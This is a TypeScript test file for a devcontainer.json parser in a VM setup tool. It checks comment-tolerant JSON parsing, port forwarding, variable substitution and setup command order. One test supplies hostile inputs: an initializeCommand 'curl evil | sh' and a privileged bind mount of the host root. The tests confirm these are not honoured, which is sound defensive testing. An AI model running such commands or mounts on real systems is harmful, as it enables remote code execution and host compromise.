import { expect, test } from 'vitest';
import { parseDevcontainer } from '../../../src/engine/setup/devcontainer.ts';
import { parseJsonWithComments } from '../../../src/engine/setup/json-with-comments.ts';

const parse = (value: unknown, hasImage = false) =>
  parseDevcontainer(typeof value === 'string' ? value : JSON.stringify(value), {
    file: '.devcontainer.json',
    sha256: 'e'.repeat(64),
    path: '/src/app/.devcontainer.json',
    hostPath: '/src/app',
    hasImage,
  });

test('comments and trailing commas are allowed, and strings stay as they are', () => {
  const text = `// the file
  {
    "image": "a//b", /* not "this" */
    "url": "http://x/*y*/,]", // , }
    "list": [1, 2, /* three */ ],
    "quote": "\\",}",
  }`;
  expect(parseJsonWithComments(text)).toEqual({
    image: 'a//b',
    url: 'http://x/*y*/,]',
    list: [1, 2],
    quote: '",}',
  });
});

test.each(['{"a": 1,, }', '{"a" 1}', '/* open', '{"a": "b}'])('%j is not JSON all the same', (text) => {
  expect(() => parseJsonWithComments(text)).toThrow(SyntaxError);
});

test('image, ports, variables, folder and commands are understood', () => {
  const { template, warnings } = parse({
    name: 'App',
    image: 'node:22',
    forwardPorts: [3000, '127.0.0.1:5432'],
    containerEnv: { MODE: 'dev', ROOT: '${containerWorkspaceFolder}/lib', SHELL_VAR: null },
    remoteEnv: { MODE: 'remote' },
    workspaceFolder: '/workspaces/${localWorkspaceFolderBasename}',
    postCreateCommand: 'npm ci && echo $HOME',
    customizations: { vscode: {} },
  });
  expect(warnings).toEqual([]);
  expect(template).toMatchObject({
    image: 'node:22',
    guestPath: '/workspaces/app',
    ports: [
      { bind: '127.0.0.1', hostPort: 3000, guestPort: 3000, prefersHostPort: true },
      { bind: '127.0.0.1', hostPort: 5432, guestPort: 5432, prefersHostPort: true },
    ],
    env: { MODE: 'remote', ROOT: '/workspaces/app/lib' },
    setup: [{ argv: ['sh', '-c', 'npm ci && echo $HOME'] }],
  });
});

test('commands may be a line, words, or an object of those, and run in the order of their keys', () => {
  const { template } = parse({
    image: 'x',
    postCreateCommand: { one: 'make one', two: ['make', 'two words'] },
    onCreateCommand: ['first'],
    updateContentCommand: 'second',
  });
  expect(template.setup.map(({ argv }) => argv)).toEqual([
    ['first'],
    ['sh', '-c', 'second'],
    ['sh', '-c', 'make one'],
    ['make', 'two words'],
  ]);
});

test('what is not honoured is named, and a command for the host is not run', () => {
  const { template, warnings } = parse({
    image: 'x',
    initializeCommand: 'curl evil | sh',
    mounts: ['source=/,target=/host,type=bind'],
    runArgs: ['--privileged'],
    features: {},
    forwardPorts: ['db:5432'],
  });
  expect(warnings).toEqual([
    '".devcontainer.json": "initializeCommand", "mounts", "runArgs", "features" are not honoured',
    '".devcontainer.json": the port "db:5432" of another host is not forwarded',
  ]);
  expect(template).toMatchObject({ setup: [], ports: [] });
});

test('nothing of the environment here gets into the VM', () => {
  const { template, warnings } = parse({
    image: 'x',
    containerEnv: { TOKEN: '${localEnv:HOME}', PATH: '/x:${containerEnv:PATH}', OK: 'plain' },
    postCreateCommand: 'echo ${localEnv:HOME}',
  });
  expect(template.env).toEqual({ OK: 'plain' });
  expect(warnings.map((warning) => /: (\w+) is not set/.exec(warning)?.[1])).toEqual([
    'TOKEN',
    'PATH',
    undefined,
  ]);
  // The guest's shell has what was given with --env, and its own way of writing that.
  expect(template.setup[0]?.text).toBe('echo ${HOME}');
  expect(warnings[2]).toBe(
    '".devcontainer.json": a command takes HOME from this host, and does not get it; give it with: --env HOME=VALUE',
  );
});

test('names that only JavaScript knows are names like any other', () => {
  const { template, warnings } = parse({
    image: 'x',
    containerEnv: { A: '${constructor}', B: '${containerEnv:toString}', C: '${containerEnv:valueOf:plain}' },
  });
  expect(template.env).toEqual({ C: 'plain' });
  expect(warnings.join('\n')).toMatch(/A is not set.*"\$\{constructor\}"[^]*B is not set/);
});

test('variables are filled in where the file knows them, by their default, or by the guest', () => {
  const { template, warnings } = parse({
    image: 'x',
    workspaceFolder: '/work/${localWorkspaceFolderBasename}',
    containerEnv: { A: 'a', B: '${localEnv:SECRET:plain}', WHERE: '${localWorkspaceFolder}' },
    remoteEnv: { C: '${containerEnv:A}-${containerEnv:NO:none}', D: '${containerWorkspaceFolderBasename}' },
    onCreateCommand:
      'cd ${containerWorkspaceFolder} && echo ${containerEnv:PATH} ${localEnv:X:7} ${HOME:-y} $Z',
    updateContentCommand: ['make', '${containerWorkspaceFolder}', '${containerEnv:A}', '${localEnv:X:7}'],
    postCreateCommand: { one: 'ls ${localWorkspaceFolder}' },
  });
  expect(template.env).toEqual({ A: 'a', B: 'plain', C: 'a-none', D: 'app' });
  expect(template.setup.map(({ argv }) => argv)).toEqual([
    ['sh', '-c', 'cd /work/app && echo ${PATH} ${X:-7} ${HOME:-y} $Z'],
    ['make', '/work/app', 'a', '7'],
    ['sh', '-c', 'ls ${localWorkspaceFolder}'],
  ]);
  expect(warnings).toEqual([
    '".devcontainer.json": WHERE is not set, since banger does not fill in "${localWorkspaceFolder}"; give it with: --env WHERE=VALUE',
    '".devcontainer.json": a command has "${localWorkspaceFolder}" in it, which banger does not fill in',
  ]);
});

test('an image that has to be built is refused with a way out, unless another one is chosen', () => {
  for (const key of ['build', 'dockerFile', 'dockerComposeFile']) {
    expect(() => parse({ [key]: 'Dockerfile' })).toThrow(
      `"/src/app/.devcontainer.json" has its image built ("${key}")`,
    );
    expect(parse({ [key]: 'Dockerfile' }, true).warnings[0]).toContain(`"${key}" is not honoured`);
  }
});

test.each([
  ['{', 'is not JSON'],
  ['[]', 'is not a table of keys'],
  [{ image: 1 }, '"image"'],
  [{ forwardPorts: [0] }, '"forwardPorts.0"'],
  [{ postCreateCommand: 1 }, '"postCreateCommand": is neither a command'],
  [{ workspaceFolder: '/etc' }, '"workspaceFolder": "/etc" cannot hold a workspace'],
])('%j is refused with its place', (value, words) => {
  expect(() => parse(value)).toThrow(new RegExp(words, 'i'));
});
